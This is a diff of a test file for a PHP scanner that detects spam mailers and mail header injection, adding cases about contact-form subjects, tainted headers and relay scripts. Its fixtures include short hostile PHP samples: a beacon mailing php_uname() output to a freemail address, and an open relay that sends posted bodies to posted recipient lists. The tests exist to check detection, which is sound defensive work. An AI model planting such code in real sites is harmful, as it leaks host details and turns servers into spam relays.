@@ -14,9 +14,9 @@ from hypothesis import strategies as st
 from scanner_helpers import SAMPLES, analyze_bytes, analyze_file, read_toml, rule_ids
 
 from spamtrace.errors import ConfigError
-from spamtrace.scanner.analyze import VULNERABILITY_CAP
+from spamtrace.scanner.analyze import VULNERABILITY_CAP, analyze
 from spamtrace.scanner.report import ScanVerdict
-from spamtrace.scanner.rules import YaraWords, load_rules, parse_rules, yara_source
+from spamtrace.scanner.rules import YaraWords, load_rules, load_yara, parse_rules, yara_source
 
 RULE_IDS = [r.id for r in load_rules()]
 MAPPING = read_toml((SAMPLES / "rule-samples.toml").read_text(encoding="utf-8"))["rules"]
@@ -807,6 +807,46 @@ def test_a_contact_form_to_the_owners_free_mail_box_is_no_drop() -> None:
     assert result.verdict is ScanVerdict.SUSPICIOUS
     beacon = b"<?php mail('x.example@gmail.com', 'up', php_uname(), 'From: bot@example.invalid');"
     assert "mailer.freemail-drop" in rule_ids(analyze_bytes(beacon))
+
+
+def _only(rule_id: str, data: bytes) -> bool:
+    """Whether the rule ``rule_id`` fires on ``data`` when it is the only rule run (no rule
+    that outranks it hides it)."""
+    rules = [r for r in load_rules() if r.id == rule_id]
+    return rule_id in rule_ids(analyze(data, "x.php", rules, yara=load_yara()))
+
+
+def test_a_posted_subject_to_the_owners_fixed_address_is_no_header_injection() -> None:
+    """mail() turns line breaks in its subject into spaces: a posted subject in a mail to the
+    site's own fixed address (a contact form) adds no header and reaches nobody else. The
+    request still counts in the headers, and in a subject to an address the visitor picks."""
+    for name in ("contact-subject-to-owner.php", "contact-topic-to-owner.php"):
+        result = analyze_file(SAMPLES / "clean" / name)
+        assert result.verdict is ScanVerdict.CLEAN, name
+    # mail-request-args reads request input in the call, mail-tainted-args through variables
+    for rid, held in (("mailer.mail-request-args", False), ("mailer.mail-tainted-args", True)):
+        def code(text: bytes, held: bool = held) -> bytes:
+            if held:  # $_POST['s'] held in $s first
+                text = re.sub(rb"\$_POST\['(\w)'\]", rb"$\1", text)
+                return b"<?php $s = $_POST['s']; $f = $_POST['f']; " + text
+            return b"<?php " + text
+        assert not _only(rid, code(b"mail('office@example.com', $_POST['s'], 'x');"))
+        assert not _only(rid, code(b"$o = 'o@example.com'; mail($o, $_POST['s'], 'x');"))
+        assert not _only(rid, code(b"define('OWNER', 'o@ex.com'); mail(OWNER, $_POST['s'], 'x');"))
+        headers = b"mail('office@example.com', 'Contact', 'x', 'From: ' . $_POST['f']);"
+        assert _only(rid, code(headers)), rid
+        picked = b"$u = get_user($_GET['id']); mail($u, $_POST['s'], 'x');"
+        assert _only(rid, code(picked)), rid  # a subject to an address not the site's own
+        # mb_send_mail() and imap_mail() build their headers otherwise: not relied on
+        other = b"mb_send_mail('office@example.com', $_POST['s'], 'x');"
+        assert _only(rid, code(other)), rid
+    twice = b"<?php $o = 'a@example.com'; $o = $_POST['o']; mail($o, $_POST['s'], 'x');"
+    assert _only("mailer.mail-request-args", twice)
+    relay = (
+        b"<?php\nforeach (explode(\"\\n\", $_POST['emails']) as $to) {\n"
+        b"    mail($to, $_POST['subject'], $_POST['body'], 'From: ' . $_POST['from']);\n}\n"
+    )
+    assert analyze_bytes(relay).verdict is ScanVerdict.MALICIOUS
 
 
 def test_vulnerabilities_together_stay_suspicious_and_intent_still_adds() -> None:
